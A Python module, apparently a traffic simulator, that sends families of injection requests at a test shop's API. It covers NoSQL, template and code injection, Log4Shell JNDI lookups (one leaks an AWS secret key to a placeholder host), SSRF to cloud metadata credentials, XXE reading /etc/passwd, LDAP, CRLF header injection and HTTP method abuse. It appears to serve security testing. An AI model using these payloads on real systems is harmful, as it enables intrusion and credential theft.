"""Injections of every sort, tried by hand: each family a list of requests for the shop's real routes.

The payloads are written from what each attack has to say to work, not taken from a collection. The
shop has none of these holes, so most are answered with an empty list or a refusal; the preview is
honest about what it fetched.
"""

import people
from rhythm import pause

HERE = "203.0.113.250"
SEARCH = "/api/v1/search?q="
PREVIEW = "/api/v1/preview?url="


def tries(address, agent, requests, dice, gap=12):
    """One person with a browser's console: look at the page, then one try after the other."""
    v = people.machine(address, agent)
    yield 0, v.get("/")
    yield pause(dice, 8), v.get(SEARCH + "lamp&limit=20")
    for method, path, headers in requests:
        call = v.call(method, path)
        call.headers.update(headers)
        yield pause(dice, gap, 0.5), call


def gets(*paths):
    return [("GET", path, {}) for path in paths]


NOSQL = gets(
    SEARCH + "lamp&category[$ne]=none", "/api/v1/products?category[$ne]=x&limit=100",
    "/api/v1/users?login[$regex]=^a&password[$ne]=1", "/api/v1/users?login[$gt]=&password[$gt]=",
    "/api/v1/products?filter=%7B%22$where%22%3A%22this.price%3C1%22%7D",
    "/api/v1/products?filter=%7B%22$where%22%3A%22sleep(4000)%22%7D",
    SEARCH + "lamp%27%3B%20return%20true%3B%20var%20a%3D%27", SEARCH + "%27%20%7C%7C%20%271%27%3D%3D%271",
    "/api/v1/products?category[$nin][]=desks&password[$exists]=true")

CODE = gets(
    SEARCH + "{{7*7}}", SEARCH + "${7*7}", SEARCH + "%23{7*7}", SEARCH + "{{config.items()}}",
    SEARCH + "{{%27%27.__class__.__mro__[1].__subclasses__()}}",
    SEARCH + "${T(java.lang.Runtime).getRuntime().exec(%27id%27)}",
    SEARCH + "%3C%3Fphp%20system(%27id%27)%3B%3F%3E",
    SEARCH + "lamp&category=__import__(%27os%27).popen(%27id%27).read()",
    "/api/v1/products?sort=require(%27child_process%27).execSync(%27id%27)",
    "/api/v1/products?__proto__[isAdmin]=true")

LOOKUP = "${jndi:ldap://" + HERE + ":1389/a}"
JNDI = [
    ("GET", "/", {"User-Agent": LOOKUP}),
    ("GET", "/", {"Referer": LOOKUP}),
    ("GET", SEARCH + "%24%7Bjndi%3Aldap%3A%2F%2F" + HERE + "%3A1389%2Fb%7D", {}),
    ("GET", SEARCH + "${${lower:j}ndi:${lower:l}dap://" + HERE + "/c}", {}),
    ("GET", "/api/v1/products?sort=${${::-j}${::-n}${::-d}${::-i}:rmi://" + HERE + "/d}", {}),
    ("GET", "/api/v1/me", {"User-Agent": "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}." + HERE + "}"})]

SSRF = gets(*(PREVIEW + address for address in (
    "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1:6379/", "http://localhost:8500/v1/agent/self",
    "http://[::ffff:127.0.0.1]:22/", "http://2130706433/", "http://0x7f000001/", "gopher://127.0.0.1:6379/_INFO",
    "dict://127.0.0.1:11211/stats", "file:///etc/hostname")))

ENTITY = "%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20%22{}%22%3E%5D%3E%3Ca%3E%26x%3B%3C%2Fa%3E"
XML = gets(
    *(SEARCH + ENTITY.format(place) for place in ("file:///etc/passwd", "file:///etc/hostname", f"http://{HERE}/x.dtd",
                                                  "php://filter/convert.base64-encode/resource=index.php")),
    SEARCH + "%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20%25%20p%20SYSTEM%20%22http%3A%2F%2F" + HERE + "%2Fx.dtd%22%3E%20%25p%3B%5D%3E",
    SEARCH + "%3Ca%20xmlns%3Axi%3D%22http%3A%2F%2Fwww.w3.org%2F2001%2FXInclude%22%3E%3Cxi%3Ainclude%20parse%3D%22text%22"
             "%20href%3D%22file%3A%2F%2F%2Fetc%2Fpasswd%22%2F%3E%3C%2Fa%3E")

LDAP = gets(*("/api/v1/users?login=" + text for text in (
    "*)(uid=*", "*)(uid=*))(%7C(uid=*", "admin)(%26)", "admin)(%7C(password=*))", "*)(objectClass=*", "x)(cn=*))%00",
    "admin)(!(%26(1=0", "*)(mail=*@*")))

HEADER = gets(
    "/api/v1/preview?url=/x%0d%0aSet-Cookie:%20session=1", SEARCH + "lamp%0d%0aLocation:%20http://" + HERE + "/",
    SEARCH + "lamp%0d%0a%0d%0a%3Chtml%3E%3Cscript%3Ealert(1)%3C/script%3E",
    SEARCH + "lamp%0aX-Forwarded-Host:%20" + HERE, SEARCH + "lamp%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
    "/api/v1/products?sort=newest%250d%250aSet-Cookie:%20a=b", SEARCH + "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b")

METHODS = [(method, path, {}) for method, path in (
    ("TRACE", "/"), ("TRACK", "/"), ("DEBUG", "/"), ("TRACE", "/api/v1/me"), ("PROPFIND", "/"), ("MKCOL", "/uploads/a"),
    ("PUT", "/uploads/test.jsp"), ("JEFF", "/"), ("DELETE", "/index.html"))]

FAMILIES = {
    "nosql-injection": NOSQL, "code-injection": CODE, "jndi-injection": JNDI, "server-side-request-forgery": SSRF,
    "xml-injection": XML, "ldap-injection": LDAP, "header-injection": HEADER, "method-abuse": METHODS,
}
